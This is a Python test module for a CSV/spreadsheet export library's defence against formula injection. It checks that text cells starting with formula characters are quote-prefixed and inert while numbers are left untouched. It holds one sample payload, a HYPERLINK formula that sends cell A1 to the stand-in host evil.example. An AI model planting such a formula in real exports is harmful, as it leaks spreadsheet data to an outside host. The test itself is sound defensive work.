"""Formula injection (公式注入): the one rule (``neutralise_cell``) and its column, engine and workbook forms agree,
make every text cell inert, leave numbers and ordinary text alone, and are used by ``write_table``."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import ibis
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from yigongti.datafolder.folder import (
    neutralise_cell,
    neutralise_ibis,
    neutralise_text,
    neutralise_workbook,
    write_table,
)

TRIGGERS = "=+-@\t\r"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"x")'

# text that starts like a formula more often than chance would make it
texts = st.one_of(st.text(), st.builds(lambda a, b: a + b, st.sampled_from([*TRIGGERS, "'", " ", "1"]), st.text()),
                  st.from_regex(r"[+-]?[0-9]{1,6}(\.[0-9]{0,3})?([eE][+-]?[0-9]{1,2})?", fullmatch=True))


def _is_plain_number(s: str) -> bool:
    try:
        float(s)
    except ValueError:
        return False
    return s.strip() == s and not any(w in s.lower() for w in ("n", "i", "_"))  # not nan, inf, 1_000


@pytest.mark.parametrize(("value", "expected"), [
    (EVIL, "'" + EVIL), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-", "'-"), ("-12.50", "-12.50"), ("+3", "+3"), ("-1e5", "-1e5"), ("示例县医院", "示例县医院"),
    ("a=b", "a=b"), ("'=1", "'=1"), ("", ""), (None, None), (-5, -5), (1.5, 1.5), (True, True),
])
def test_the_rule_on_examples(value: object, expected: object) -> None:
    assert neutralise_cell(value) == expected


@settings(max_examples=300, deadline=None)
@given(texts)
def test_a_neutralised_cell_never_starts_a_formula_and_keeps_its_text(s: str) -> None:
    out = neutralise_cell(s)
    assert isinstance(out, str)
    assert out[:1] not in TRIGGERS or out == "" or _is_plain_number(out)
    assert out in (s, "'" + s)  # nothing else is changed: the original text follows the quote
    assert neutralise_cell(out) == out  # idempotent: writing twice adds no second quote
    if not s[:1] or s[0] not in TRIGGERS:
        assert out == s


@settings(max_examples=60, deadline=None)
@given(st.lists(st.one_of(st.none(), texts), max_size=40))
def test_column_and_engine_forms_agree_with_the_rule(values: list[str | None]) -> None:
    expected = [neutralise_cell(v) for v in values]
    assert neutralise_text(pa.array(values, pa.string())).to_pylist() == expected
    assert neutralise_text(pa.chunked_array([pa.array(values, pa.large_string())])).to_pylist() == expected
    if values:
        t = ibis.memtable(pa.table({"s": pa.array(values, pa.string()), "n": pa.array(range(len(values)))}))
        out = ibis.duckdb.connect().to_pyarrow(neutralise_ibis(t).order_by("n"))
        assert out["s"].to_pylist() == expected
        assert out["n"].to_pylist() == list(range(len(values)))  # numbers untouched


def test_workbook_cells_are_text_not_formulas() -> None:
    wb = Workbook()
    ws = wb.active
    ws.append([EVIL, "-3", -3, 2.5, "=1+1", "名称"])
    assert ws["A1"].data_type == "f"  # openpyxl would store these as formulas
    neutralise_workbook(wb)
    buf = io.BytesIO()
    wb.save(buf)
    back = load_workbook(io.BytesIO(buf.getvalue())).active
    cells = next(iter(back.iter_rows(values_only=False)))
    assert [c.value for c in cells] == ["'" + EVIL, "-3", -3, 2.5, "'=1+1", "名称"]
    assert [c.data_type for c in cells] == ["s", "s", "n", "n", "s", "s"]


def test_write_table_neutralises_text_columns_only(tmp_path: Path) -> None:
    table = pa.table({"inst_id": ["A", "-B"], "name": [EVIL, "示例"], "level": [-1, 2], "lon": [-102.5, 1.0],
                      "note": ["-12.50", None]})
    path = write_table(table, tmp_path, "institutions_x")
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0] == {"inst_id": "A", "name": "'" + EVIL, "level": "-1", "lon": "-102.5", "note": "-12.50"}
    assert rows[1]["inst_id"] == "'-B" and rows[1]["name"] == "示例" and rows[1]["note"] == ""
